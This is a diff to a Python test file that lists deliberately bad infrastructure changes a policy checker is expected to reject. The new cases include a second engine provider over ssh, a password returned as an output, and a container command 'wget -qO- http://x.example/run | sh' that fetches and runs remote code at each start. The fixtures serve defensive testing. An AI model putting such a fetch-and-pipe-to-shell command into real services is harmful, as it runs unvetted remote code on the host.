@@ -7,7 +7,7 @@ from typing import Any
 import yaml
 
 from components.config_files import INCOMING
-from policies.readers.declared_resources import COMMAND, CONTAINER, NETWORK, VOLUME
+from policies.readers.declared_resources import COMMAND, CONTAINER, NETWORK, PROVIDER, VOLUME
 from tests.policy.changed_program import Change, Inputs
 from tests.policy.pack_host import UNKNOWN, Resource
 from tests.support.program import DOOR, EDGE, EVERYTHING, EXPORTERS, FRONT, OF_DOOR, PINNED_STORAGE
@@ -444,6 +444,10 @@ BAD: Mapping[str, tuple[Change, set[str]]] = {
         Change(addition=Resource({"name": "x/y"}, "plugin", "docker:index/plugin:Plugin")),
         {"known-kinds"},
     ),
+    "another engine": (
+        Change(addition=Resource({"host": "ssh://ops@elsewhere.example.com"}, "elsewhere", PROVIDER)),
+        {"one-engine"},
+    ),
     "an unknown command": (
         one(COMMAND, "annotation", create=".venv/bin/python -m http.server"),
         {"known-commands"},
@@ -488,7 +492,16 @@ BAD: Mapping[str, tuple[Change, set[str]]] = {
         ),
         {"no-secrets-in-clear"},
     ),
+    "a password as an output": (Change(outputs={"database_password": "correct horse"}), {"no-secrets-in-outputs"}),
     # operation
+    "a program that is fetched at each start": (
+        services(entrypoints=["sh", "-c"], command=["wget -qO- http://x.example/run | sh"]),
+        {"images-are-pinned", "data-volumes", "no-usage-reports"},
+    ),
+    "health checks that never fail": (
+        services(healthcheck=checked(tests=["CMD-SHELL", "wget -q http://x || true"])),
+        {"health-check"},
+    ),
     "no health checks": (services(healthcheck=None), {"health-check"}),
     "logs that are not rotated": (services(logOpts={"max-file": "3"}), {"log-rotation"}),
     "the engine's default log driver": (services(logDriver=None), {"log-rotation"}),
